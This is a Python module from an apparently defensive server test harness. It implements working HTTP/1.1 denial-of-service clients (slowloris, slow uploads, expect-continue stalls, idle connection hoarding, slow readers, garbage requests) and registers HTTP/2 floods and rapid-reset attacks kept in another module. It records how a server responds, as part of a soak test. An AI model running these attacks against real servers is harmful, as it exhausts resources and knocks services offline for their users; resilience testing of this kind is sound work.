"""Hostile clients: attacks on raw sockets that report what the server did to them.

Why raw sockets: a real client library (httpx, h2's state machine, wrk)
refuses to misbehave, and the interesting attacks are precisely the
misbehaviours (a head that never ends, a body one byte a second, an
HTTP/2 window of zero, a reset after every HEADERS). Each attack is a plain
function ``attack(host, port, duration, **params) -> Seen``: it opens its
connections, misbehaves until the server settles each one or ``duration``
runs out, and returns what it saw: bytes sent and received, and per
connection (or HTTP/2 stream) one outcome:

- ``served``: a 2xx answer (the server went along with it);
- ``4xx`` / ``5xx``: a refusal with a status (408, 413, 431, 400, 503...;
  the codes are in ``statuses``);
- ``reset``: a TCP reset, or an HTTP/2 RST_STREAM (codes in ``details``);
- ``goaway``: an HTTP/2 GOAWAY that ended our streams (codes in ``details``);
- ``closed-by-server``: the server closed without an answer;
- ``still-open``: the server still tolerated it when ``duration`` ran out;
- ``refused`` / ``error``: the connection could not be opened.

``still-open`` is not a failure by itself: whether tolerating a client is
cheap is what the soak's samples of the server's memory, threads and
descriptors tell.

HTTP/1.1 attacks live here, HTTP/2 ones (frames built with hyperframe and
hpack) in ``experiments.hostile.h2``, the normal visitors in
``experiments.hostile.visitors``. ``attacks()`` lists them all;
``python -m experiments.hostile.clients NAME --port P --seconds S`` runs one and
prints its ``Seen`` as JSON.
"""

from __future__ import annotations

import argparse
import json
import os
import re
import selectors
import socket
import statistics
import sys
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

OUTCOMES = ("served", "4xx", "5xx", "reset", "goaway", "closed-by-server", "still-open", "refused", "error")
STATUS_LINE = re.compile(rb"HTTP/1\.[01] (\d{3})[^\r\n]*\r\n")


@dataclass
class Seen:
    """What one attack saw, summed over its connections (or HTTP/2 streams)."""

    attack: str
    protocol: str
    duration: float = 0.0
    connections: int = 0
    bytes_sent: int = 0
    bytes_received: int = 0
    outcomes: Counter = field(default_factory=Counter)
    statuses: Counter = field(default_factory=Counter)
    details: dict[str, Any] = field(default_factory=dict)
    _times: dict[str, list[float]] = field(default_factory=dict)
    _started: float = field(default_factory=time.monotonic)

    def settle(self, outcome: str, status: int | None = None, count: int = 1) -> None:
        """One connection (or stream) ended ``outcome``, now."""
        assert outcome in OUTCOMES, outcome
        self.outcomes[outcome] += count
        if status is not None:
            self.statuses[status] += count
        self._times.setdefault(outcome, []).extend([time.monotonic() - self._started] * count)

    def note(self, key: str, value: Any = 1) -> None:
        """Count (numbers add up) or record (anything else) a detail."""
        if isinstance(value, (int, float)) and not isinstance(value, bool):
            self.details[key] = self.details.get(key, 0) + value
        else:
            self.details[key] = value

    def summary(self) -> str:
        """``4xx(408)x50`` style: each outcome with its count, most common first."""
        parts = []
        for outcome, n in self.outcomes.most_common():
            codes = ""
            if outcome in ("4xx", "5xx", "served"):
                codes = "(" + ",".join(str(s) for s in sorted(self.statuses) if str(s)[0] == _digit(outcome)) + ")"
            parts.append(f"{outcome}{codes}x{n}")
        return " ".join(parts) or "nothing"

    def to_dict(self) -> dict[str, Any]:
        return {"attack": self.attack, "protocol": self.protocol, "duration_s": round(self.duration, 2),
                "connections": self.connections, "bytes_sent": self.bytes_sent,
                "bytes_received": self.bytes_received, "outcomes": dict(self.outcomes),
                "statuses": {str(k): v for k, v in self.statuses.items()}, "summary": self.summary(),
                "median_s_to_outcome": {k: round(statistics.median(v), 2) for k, v in self._times.items()},
                "details": self.details}


def _digit(outcome: str) -> str:
    return {"served": "2", "4xx": "4", "5xx": "5"}[outcome]


def by_status(status: int) -> str:
    return "served" if status < 400 else "4xx" if status < 500 else "5xx"


def open_socket(host: str, port: int, seen: Seen, rcvbuf: int | None = None,
                timeout: float = 5.0) -> socket.socket | None:
    """A connected socket, or None with ``refused`` / ``error`` settled for it."""
    seen.connections += 1
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if rcvbuf:  # before connect: the window the kernel advertises is fixed by then
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    sock.settimeout(timeout)
    try:
        sock.connect((host, port))
    except ConnectionRefusedError:
        sock.close()
        seen.settle("refused")
        return None
    except OSError as exc:
        sock.close()
        seen.settle("error")
        seen.note(f"connect_{type(exc).__name__}")
        return None
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return sock


def final_status(buf: bytearray) -> int | None:
    """The first non-1xx status in ``buf``; 1xx heads (100 Continue) are skipped, not removed."""
    pos = 0
    while (m := STATUS_LINE.match(buf, pos)) is not None:
        status = int(m[1])
        if status >= 200:
            return status
        end = buf.find(b"\r\n\r\n", pos)
        if end < 0:
            return None
        pos = end + 4
    return None


# One trickling connection per socket, many at once -------------------------------------

@dataclass
class _Victim:
    sock: socket.socket
    buf: bytearray = field(default_factory=bytearray)
    status: int | None = None
    done: bool = False
    selector: selectors.BaseSelector | None = None  # unregistered before the socket closes


def trickle(seen: Seen, host: str, port: int, *, connections: int, duration: float, interval: float,
            opening: bytes, step: bytes, keep_after_answer: bool = False) -> Seen:
    """``connections`` sockets each send ``opening`` then ``step`` every ``interval`` seconds.

    A connection is settled by the server's first final answer (its status),
    its close or its reset; with ``keep_after_answer`` (idle connections) an
    answer is only noted and the connection waits to be closed.
    """
    deadline = time.monotonic() + duration
    selector = selectors.DefaultSelector()
    victims = []
    for _ in range(connections):
        if time.monotonic() > deadline:
            break
        sock = open_socket(host, port, seen)
        if sock is None:
            continue
        victim = _Victim(sock)
        victims.append(victim)
        _send(seen, victim, opening)
        if not victim.done:
            sock.setblocking(False)
            selector.register(sock, selectors.EVENT_READ, victim)
            victim.selector = selector
    next_step = time.monotonic() + interval
    while (now := time.monotonic()) < deadline and any(not v.done for v in victims):
        if step and now >= next_step:
            next_step = now + interval
            for victim in victims:
                if not victim.done:
                    _send(seen, victim, step)
        for key, _ in selector.select(max(0.0, min(next_step, deadline) - now)):
            _receive(seen, key.data, keep_after_answer)
    _finish(seen, victims, selector)
    return seen


def _send(seen: Seen, victim: _Victim, data: bytes) -> None:
    if not data:
        return
    try:
        seen.bytes_sent += victim.sock.send(data)
    except BlockingIOError:
        seen.note("send_blocked")  # the server stopped reading: the kernel buffers are full
    except (BrokenPipeError, ConnectionResetError):
        _settle(seen, victim, "reset")
    except OSError:
        _settle(seen, victim, "error")


def _receive(seen: Seen, victim: _Victim, keep_after_answer: bool) -> None:
    try:
        data = victim.sock.recv(65536)
    except BlockingIOError:
        return
    except ConnectionResetError:  # after a final answer (not kept alive) a reset is only how it closed
        answered = victim.status is not None and not keep_after_answer
        _settle(seen, victim, by_status(victim.status) if answered else "reset")
        return
    seen.bytes_received += len(data)
    if not data:
        closed = "closed-by-server" if victim.status is None or keep_after_answer else by_status(victim.status)
        _settle(seen, victim, closed)
        return
    victim.buf += data
    if victim.status is None and (status := final_status(victim.buf)) is not None:
        victim.status = status
        seen.statuses[status] += 1
        if keep_after_answer:
            seen.note("answered")
        else:
            _settle(seen, victim, by_status(status))
    if b"HTTP/1.1 100" in victim.buf[:12]:
        seen.details["got_100_continue"] = True


def _settle(seen: Seen, victim: _Victim, outcome: str) -> None:
    if victim.done:
        return
    victim.done = True
    seen.settle(outcome)  # the status was counted when it arrived
    if victim.selector is not None:
        victim.selector.unregister(victim.sock)
    victim.sock.close()


def _finish(seen: Seen, victims: list[_Victim], selector: selectors.BaseSelector) -> None:
    for victim in victims:
        if not victim.done:
            victim.done = True
            seen.settle("still-open")
            victim.sock.close()
    selector.close()
    seen.duration = time.monotonic() - seen._started


# The HTTP/1.1 attacks ---------------------------------------------------------------------

def slowloris(host: str, port: int, duration: float, connections: int = 50, interval: float = 1.0) -> Seen:
    """A request head that never ends: one more header line every ``interval`` seconds."""
    opening = b"GET / HTTP/1.1\r\nHost: slowloris\r\nUser-Agent: slowloris\r\n"
    return trickle(Seen("slowloris", "h1"), host, port, connections=connections, duration=duration,
                   interval=interval, opening=opening, step=b"X-Wait: 1\r\n")


def slow_body(host: str, port: int, duration: float, connections: int = 20, interval: float = 1.0,
              length: int = 4096, chunked: bool = False, name: str | None = None) -> Seen:
    """An upload one byte every ``interval``: ``Content-Length: length``, or chunked.

    A small declared body is gathered before a worker runs (``io_timeout``
    bounds the whole body); a large or chunked one is streamed to the
    handler, where ``io_timeout`` bounds each *silence*, and a trickle is
    never silent.
    """
    framing = b"Transfer-Encoding: chunked" if chunked else b"Content-Length: %d" % length
    opening = b"POST /upload HTTP/1.1\r\nHost: slowbody\r\n" + framing + b"\r\n\r\n"
    step = b"1\r\nx\r\n" if chunked else b"x"
    name = name or ("slow-body-chunked" if chunked else "slow-body-cl")
    return trickle(Seen(name, "h1"), host, port, connections=connections, duration=duration,
                   interval=interval, opening=opening, step=step)


def expect_continue(host: str, port: int, duration: float, connections: int = 20,
                    length: int = 1024 * 1024) -> Seen:
    """``Expect: 100-continue``, then never the body the server said it would take."""
    opening = (b"POST /upload HTTP/1.1\r\nHost: expect\r\nExpect: 100-continue\r\n"
               b"Content-Length: %d\r\n\r\n" % length)
    return trickle(Seen("expect-continue", "h1"), host, port, connections=connections, duration=duration,
                   interval=duration, opening=opening, step=b"")


def idle(host: str, port: int, duration: float, connections: int = 200, silent: bool = False) -> Seen:
    """Many connections doing nothing: after one request (keep-alive) or from the start (``silent``)."""
    opening = b"" if silent else b"GET / HTTP/1.1\r\nHost: idle\r\n\r\n"
    seen = Seen("idle-silent" if silent else "idle", "h1")
    return trickle(seen, host, port, connections=connections, duration=duration, interval=duration,
                   opening=opening, step=b"", keep_after_answer=True)


def slow_reader(host: str, port: int, duration: float, connections: int = 10, requests: int = 20,
                chunk: int = 300, interval: float = 0.1, path: str = "/big") -> Seen:
    """Pipelines ``requests`` large GETs, then reads ``chunk`` bytes every ``interval`` seconds.

    A small receive buffer keeps the kernel from reading ahead for us, so the
    server's send queue (and whatever it holds in memory) stays full.
    """
    seen = Seen("slow-reader", "h1")
    deadline = time.monotonic() + duration
    request = b"GET %s HTTP/1.1\r\nHost: slowreader\r\n\r\n" % path.encode()
    victims = []
    for _ in range(connections):
        sock = open_socket(host, port, seen, rcvbuf=4096)
        if sock is not None:
            victims.append(_Victim(sock))
            _send(seen, victims[-1], request * requests)
            sock.setblocking(False)
    while time.monotonic() < deadline and any(not v.done for v in victims):
        for victim in victims:
            if not victim.done:
                _sip(seen, victim, chunk)
        time.sleep(interval)
    _finish(seen, victims, selectors.DefaultSelector())
    return seen


def _sip(seen: Seen, victim: _Victim, chunk: int) -> None:
    """One small read; the first status line is kept, the rest only counted."""
    try:
        data = victim.sock.recv(chunk)
    except BlockingIOError:
        return
    except ConnectionResetError:
        _settle(seen, victim, "reset")
        return
    if not data:
        _settle(seen, victim, "closed-by-server")
        return
    seen.bytes_received += len(data)
    if victim.status is None:
        victim.buf += data
        if (status := final_status(victim.buf)) is not None:
            victim.status = status
            seen.statuses[status] += 1
            victim.buf.clear()


def garbage(host: str, port: int, duration: float, connections: int = 100, size: int = 2048,
            timeout: float = 5.0) -> Seen:
    """Random bytes instead of a request, one connection after another; a server should say 400 and close."""
    seen = Seen("garbage", "h1")
    deadline = time.monotonic() + duration
    for _ in range(connections):
        if time.monotonic() + timeout > deadline:
            break
        sock = open_socket(host, port, seen)
        if sock is None:
            continue
        victim = _Victim(sock)
        # A printable first byte: random binary could by chance start like TLS or the HTTP/2 preface.
        _send(seen, victim, b"Z" + os.urandom(size - 1))
        if not victim.done:
            await_answer(seen, victim, timeout)
    seen.duration = time.monotonic() - seen._started
    return seen


def await_answer(seen: Seen, victim: _Victim, timeout: float) -> None:
    """Read until the server closes (or resets), or ``timeout`` passes; settle by the answer if one came."""
    victim.sock.setblocking(True)
    victim.sock.settimeout(timeout)
    ending = "still-open"
    try:
        while data := victim.sock.recv(65536):
            seen.bytes_received += len(data)
            victim.buf += data
        ending = "closed-by-server"
    except ConnectionResetError:
        ending = "reset"
    except TimeoutError:
        pass
    status = final_status(victim.buf)
    if status is None:
        _settle(seen, victim, ending)
        return
    seen.statuses[status] += 1
    if ending == "still-open":
        seen.note("answered_but_kept_open")
    _settle(seen, victim, by_status(status))


def attacks() -> dict[str, tuple[str, Callable[..., Seen], dict[str, Any]]]:
    """name -> (protocol, function, parameters for the soak), in the soak's rotation order."""
    from . import h2
    return {
        "slowloris": ("h1", slowloris, {}),
        "h2-rapid-reset": ("h2", h2.rapid_reset, {}),
        "slow-body-cl": ("h1", slow_body, {}),
        "h2-zero-window": ("h2", h2.zero_window, {}),
        "slow-body-cl-large": ("h1", slow_body, {"length": 1024 * 1024, "connections": 40,
                                                 "name": "slow-body-cl-large"}),
        "h2-continuation-flood": ("h2", h2.continuation_flood, {}),
        "slow-body-chunked": ("h1", slow_body, {"chunked": True}),
        "h2-trickle-upload": ("h2", h2.trickle_upload, {}),
        "expect-continue": ("h1", expect_continue, {}),
        "h2-settings-flood": ("h2", h2.control_flood, {"kind": "settings"}),
        "slow-reader": ("h1", slow_reader, {}),
        "h2-ping-flood": ("h2", h2.control_flood, {"kind": "ping"}),
        "idle": ("h1", idle, {}),
        "h2-idle": ("h2", h2.idle, {}),
        "idle-silent": ("h1", idle, {"silent": True}),
        "h2-garbage": ("h2", h2.garbage, {}),
        "h2-oversized-frame": ("h2", h2.oversized_frame, {}),
        "garbage": ("h1", garbage, {}),
    }


def run_attack(name: str, host: str, port: int, duration: float, **overrides: Any) -> Seen:
    """Run one attack by name; a crash in the attack itself is reported, not raised."""
    protocol, function, params = attacks()[name]
    try:
        return function(host, port, duration, **{**params, **overrides})
    except Exception as exc:  # the attacker's bug must not end a soak: it is recorded
        seen = Seen(name, protocol)
        seen.settle("error")
        seen.note("attack_crashed", f"{type(exc).__name__}: {exc}")
        return seen


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(description="Run one hostile client against a server and print what it saw.")
    p.add_argument("attack", choices=list(attacks()))
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--seconds", type=float, default=40.0)
    p.add_argument("--param", action="append", default=[], metavar="NAME=VALUE",
                   help="override a parameter (numbers parsed as such)")
    args = p.parse_args(argv)
    overrides = {k: _number(v) for k, _, v in (item.partition("=") for item in args.param)}
    seen = run_attack(args.attack, args.host, args.port, args.seconds, **overrides)
    print(json.dumps(seen.to_dict()))
    return 0


def _number(value: str) -> Any:
    for kind in (int, float):
        try:
            return kind(value)
        except ValueError:
            pass
    return value


if __name__ == "__main__":
    sys.exit(main())
